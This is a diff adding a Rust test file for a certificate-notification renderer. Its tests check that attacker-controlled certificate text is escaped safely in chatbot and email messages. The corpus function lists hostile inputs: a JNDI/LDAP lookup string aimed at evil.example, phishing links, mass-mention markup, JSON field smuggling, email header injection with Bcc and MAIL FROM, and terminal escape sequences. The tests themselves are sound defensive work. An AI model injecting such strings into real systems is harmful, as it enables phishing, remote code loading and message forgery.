@@ -1,0 +1,278 @@
+//! Text that anybody who owns a scanned host controls: it mentions nobody, links nowhere, forges no line, breaks no payload.
+
+use std::collections::BTreeMap;
+use std::sync::LazyLock;
+
+use certnotify::event::Evidence;
+use certnotify::policy::{Channel, Language};
+use certnotify::render::untrusted::clean;
+use certnotify::render::{Body, Message};
+use proptest::prelude::*;
+use serde_json::Value;
+
+use super::fleet::{Case, World, fleet};
+
+fn corpus() -> Vec<String> {
+    let fixed = [
+        "<at id=all></at>",
+        "<at user_id=\"all\">x</at>",
+        "<@all>",
+        "<@zhangsan>",
+        "@13800000000",
+        "@everyone @here <@&1> <@1>",
+        "<!channel> <!here|x>",
+        "[Pay now](https://evil.example)",
+        "<https://evil.example|bank>",
+        "![x](https://evil.example/p.png)",
+        "*.example.com",
+        "*.a.com *.b.com",
+        "a_b_c.example",
+        "``x`y``z``",
+        "\n# EXPIRED\n- www.victim.com 900d",
+        "</font><font color=\"info\">OK",
+        ":DONE: &#60;at id=all&#62;",
+        "&lt;at id=all&gt;",
+        "\u{202e}moc.elpmaxe.www\u{2066}",
+        "",
+        " ",
+        "\u{0}\u{85}\u{fffd}x\u{7f}\u{1b}[2J\u{1b}]0;title\u{7}",
+        "${jndi:ldap://evil.example} {{7*7}} %s %n",
+        "=HYPERLINK(\"http://e\")",
+        "👩\u{200d}👩\u{200d}👧\u{200d}👦 🏳\u{fe0f}\u{200d}🌈",
+        "\"},\"at\":{\"isAtAll\":true},\"x\":{\"",
+        "\r\nBcc: v@evil.example",
+        ".\r\nMAIL FROM:<x>",
+        "=?UTF-8?B?SGVsbG8=?=",
+        "\u{1fef}\u{1fef}\u{1fef}code\u{1fef}",
+        "> quote",
+        "# heading",
+        "- item",
+        "1. item",
+        "---",
+        "| a | b |",
+        "-- \nsignature",
+    ];
+    let mut corpus: Vec<String> = fixed.map(str::to_owned).to_vec();
+    corpus.push("A".repeat(65536));
+    corpus.push("证\u{202e}".repeat(20000));
+    corpus
+}
+
+/// A certificate with `text` wherever its owner, its issuer, a peer or the name of a file could put it.
+fn poisoned(text: &str, number: usize) -> Case {
+    let mut case = fleet(number + 1).remove(number);
+    case.certificate.subject = format!("CN={text}");
+    case.certificate.issuer = format!("CN={text},O={text}");
+    text.clone_into(&mut case.certificate.serial);
+    case.certificate.dns_names = vec![text.to_owned(), format!("second {text}")];
+    case.sightings[0].address = Some(text.to_owned());
+    case.sightings[0].failing = Some(text.to_owned());
+    // A path has no two slashes in a row.
+    let path = text.replace("//", "/");
+    case.sightings[0].name = format!("entry/{path}");
+    case.sightings[0].place = format!("/srv/{path}");
+    case.left_out = vec![format!("second {text}")];
+    case.evidence = Evidence::Reported { by: text.to_owned() };
+    case
+}
+
+fn many(text: &str, size: usize) -> Vec<Case> {
+    (0..size).map(|number| poisoned(text, number)).collect()
+}
+
+fn worlds() -> [World; 2] {
+    let mut worlds =
+        [World::new(Language::English, "Europe/Berlin"), World::new(Language::SimplifiedChinese, "Asia/Shanghai")];
+    for world in &mut worlds {
+        world.robot(Channel::DingTalk).mention = vec!["13800000000".to_owned()];
+        world.robot(Channel::WeCom).mention = vec!["zhangsan".to_owned()];
+        world.robot(Channel::Lark).mention = vec!["ou_1".to_owned()];
+    }
+    worlds
+}
+
+fn strings<'a>(value: &'a Value, found: &mut Vec<&'a str>) {
+    match value {
+        Value::String(text) => found.push(text),
+        Value::Array(items) => items.iter().for_each(|item| strings(item, found)),
+        Value::Object(members) => members.values().for_each(|member| strings(member, found)),
+        _ => {}
+    }
+}
+
+/// The payload with every string emptied: what is left is its shape.
+fn shape(value: &Value) -> Value {
+    match value {
+        Value::String(_) => Value::String(String::new()),
+        Value::Array(items) => items.iter().map(shape).collect(),
+        Value::Object(members) => members.iter().map(|(key, member)| (key.clone(), shape(member))).collect(),
+        other => other.clone(),
+    }
+}
+
+fn count(text: &str, wanted: &str) -> usize {
+    text.matches(wanted).count()
+}
+
+fn assert_is_printable(text: &str) {
+    for line in text.split('\n') {
+        assert_eq!(
+            clean(&line.replace("  ", " ")),
+            line.trim().split(' ').filter(|word| !word.is_empty()).collect::<Vec<_>>().join(" ")
+        );
+    }
+}
+
+/// Nothing but the words between the markup may differ from a message about harmless text.
+fn assert_is_harmless(channel: Channel, payload: &Value, twin: &Value) {
+    assert_eq!(serde_json::from_str::<Value>(&payload.to_string()).unwrap(), *payload);
+    assert_eq!(shape(payload), shape(twin), "{channel}");
+    assert_eq!(payload["at"], twin["at"]);
+    let (mut texts, mut twins) = (Vec::new(), Vec::new());
+    strings(payload, &mut texts);
+    strings(twin, &mut twins);
+    for (text, twin) in texts.iter().zip(twins) {
+        assert_is_printable(text);
+        assert_eq!(count(text, "\n"), count(twin, "\n"), "{text}");
+        assert!(!text.contains("://"), "{text}");
+        if channel == Channel::Lark {
+            continue;
+        }
+        for mark in ["<", ">", "@", "[", "](", "#", "\n> ", "\n\n", "**", "![", "|"] {
+            assert_eq!(count(text, mark), count(twin, mark), "{channel} {mark:?}: {text}");
+        }
+        assert!(channel == Channel::WeCom || !text.contains('`'), "{text}");
+        let codes: Vec<&str> = text.split('`').skip(1).step_by(2).collect();
+        assert!(
+            count(text, "`").is_multiple_of(2) && codes.iter().all(|code| !code.contains([' ', '\n', '<'])),
+            "{text}"
+        );
+    }
+}
+
+/// Whatever a card takes as markup is the same for every certificate.
+fn markup(value: &Value, found: &mut Vec<String>) {
+    match value {
+        Value::Object(members) if members.get("tag").and_then(Value::as_str) == Some("lark_md") => {
+            found.push(members["content"].to_string());
+        }
+        Value::Object(members) => members.values().for_each(|member| markup(member, found)),
+        Value::Array(items) => items.iter().for_each(|item| markup(item, found)),
+        _ => {}
+    }
+}
+
+/// By language, size and channel: the first message about any number of certificates with harmless text.
+type Twins = BTreeMap<(usize, usize, Channel), Message>;
+
+fn first_messages(text: &str, sizes: &[usize]) -> Twins {
+    let mut firsts = BTreeMap::new();
+    for (nth, world) in worlds().iter().enumerate() {
+        for (size, channel) in sizes.iter().flat_map(|size| Channel::CHATBOTS.map(|channel| (*size, channel))) {
+            firsts.insert((nth, size, channel), world.messages(channel, &many(text, size)).remove(0));
+        }
+    }
+    firsts
+}
+
+fn assert_rooms_are_safe(text: &str, sizes: &[usize], twins: &Twins) {
+    for (key, message) in first_messages(text, sizes) {
+        let twin = &twins[&key];
+        // Where long words leave room for fewer rows, smaller batches show that they are harmless.
+        if message.certificates != twin.certificates {
+            continue;
+        }
+        let (Body::Chat { payload, plainer }, Body::Chat { payload: twin, plainer: plain_twin }) =
+            (&message.body, &twin.body)
+        else {
+            panic!("a chat has a chat's body")
+        };
+        assert_is_harmless(key.2, payload, twin);
+        if let (Some(plainer), Some(twin)) = (plainer, plain_twin) {
+            assert_is_harmless(key.2, plainer, twin);
+        }
+        let (mut marks, mut twin_marks) = (Vec::new(), Vec::new());
+        markup(payload, &mut marks);
+        markup(twin, &mut twin_marks);
+        assert_eq!(marks, twin_marks);
+    }
+}
+
+fn tags(html: &str) -> Vec<&str> {
+    html.split('<').skip(1).map(|part| part.split('>').next().unwrap()).collect()
+}
+
+fn assert_mails_are_safe(text: &str) {
+    for world in worlds() {
+        for size in [1, 3] {
+            let (mail, twin) = (world.mail(&many(text, size)), world.mail(&many("harmless text", size)));
+            assert_is_printable(&mail.subject);
+            assert!(!mail.subject.contains('\n'));
+            assert_is_printable(&mail.text);
+            assert_eq!(tags(&mail.html), tags(&twin.html), "{text:?}");
+            assert_is_printable(&mail.html);
+            assert!(
+                !mail.html.contains("://") && !mail.text.contains("://") && !mail.subject.contains("://"),
+                "{text}"
+            );
+            let forged = ["- www.victim.com", "Bcc:", "MAIL FROM", "signature"];
+            assert_eq!(count(&mail.text, "\n\n"), count(&twin.text, "\n\n"), "{text:?}");
+            for line in mail.text.lines().filter(|line| !line.starts_with("  ")) {
+                assert!(!forged.iter().any(|forged| line.starts_with(forged)), "{line}");
+            }
+            assert_eq!(count(&mail.text, "\n-- \n"), 1, "one signature");
+        }
+    }
+}
+
+#[test]
+fn the_hostile_corpus_is_only_words_in_every_room() {
+    let twins = first_messages("harmless text", &[1, 20, 70]);
+    for text in corpus() {
+        let sizes: &[usize] = if text.len() > 1000 { &[1, 20] } else { &[1, 20, 70] };
+        assert_rooms_are_safe(&text, sizes, &twins);
+    }
+}
+
+#[test]
+fn the_hostile_corpus_is_only_words_in_every_mail() {
+    for text in corpus() {
+        assert_mails_are_safe(&text);
+    }
+}
+
+#[test]
+fn a_certificate_without_any_name_is_called_by_its_entry() {
+    for names in [Vec::new(), vec![String::new()]] {
+        let mut case = fleet(1).remove(0);
+        case.certificate.subject = String::new();
+        case.certificate.dns_names = names;
+        let world = World::new(Language::English, "Europe/Berlin");
+        let mail = world.mail(&[case]);
+        assert!(mail.subject.starts_with("fleet/host-0000.region-0.example.com: certificate"), "{}", mail.subject);
+    }
+}
+
+#[test]
+fn five_thousand_names_are_counted() {
+    let mut case = fleet(1).remove(0);
+    case.certificate.dns_names = (0..5000).map(|number| format!("n{number}.example.com")).collect();
+    let world = World::new(Language::English, "Europe/Berlin");
+    let text = world.mail(std::slice::from_ref(&case)).text;
+    assert!(text.contains("and 4980 more") && text.len() < 4000, "{text}");
+    for payload in Channel::CHATBOTS.map(|channel| world.payloads(channel, std::slice::from_ref(&case)).remove(0)) {
+        assert!(payload.to_string().contains("n2.example.com"));
+        assert!(payload.to_string().contains("and 4997 more"));
+    }
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 48, failure_persistence: None, ..ProptestConfig::default() })]
+
+    #[test]
+    fn any_text_is_only_words(text in "[\\PC\\n\\r\\t<>@\\[\\]()`*_#&:/.\\-\u{200b}\u{202e}]{0,80}") {
+        static TWINS: LazyLock<Twins> = LazyLock::new(|| first_messages("harmless text", &[1, 20]));
+        assert_rooms_are_safe(&text, &[1, 20], &TWINS);
+        assert_mails_are_safe(&text);
+    }
+}
